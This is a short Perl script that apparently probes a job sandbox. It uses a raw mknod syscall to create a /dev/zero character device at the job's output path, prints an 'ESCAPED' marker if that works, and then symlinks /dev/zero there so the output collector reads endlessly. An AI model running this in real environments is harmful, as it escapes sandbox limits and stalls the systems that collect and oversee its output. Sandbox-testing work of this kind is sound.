# Leaves an endless device in place of its output. What collects outputs must not read it.
my $path = "/job/out";
print "ESCAPED: made a device\n" if syscall(133, $path, 0020666, 0x105) >= 0;
symlink("/dev/zero", $path);
print "held\n";
